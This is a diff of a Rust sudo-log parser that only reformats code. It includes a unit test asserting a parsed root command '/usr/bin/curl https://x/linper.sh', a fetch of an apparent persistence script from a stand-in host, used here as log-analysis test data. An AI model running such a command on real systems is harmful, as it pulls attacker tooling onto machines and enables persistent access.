@@ -27,7 +27,11 @@ fn sudo(msg: &str, line: &str, d: &mut Draft) -> bool {
         || rest.contains("NOT in sudoers")
         || rest.contains("command not allowed")
         || rest.contains("authentication failure");
-    d.kind = if failed { Kind::SudoFailure } else { Kind::Sudo };
+    d.kind = if failed {
+        Kind::SudoFailure
+    } else {
+        Kind::Sudo
+    };
     if failed {
         d.set_sub(line, Field::Detail, rest.split(" ; ").next().unwrap_or(""));
     }
@@ -93,7 +97,10 @@ mod tests {
         assert_eq!(d.kind, Kind::Sudo);
         assert_eq!(d.get(Field::User), Some("cyberjunkie"));
         assert_eq!(d.get(Field::Target), Some("root"));
-        assert_eq!(d.get(Field::Command), Some("/usr/bin/curl https://x/linper.sh"));
+        assert_eq!(
+            d.get(Field::Command),
+            Some("/usr/bin/curl https://x/linper.sh")
+        );
     }
 
     #[test]
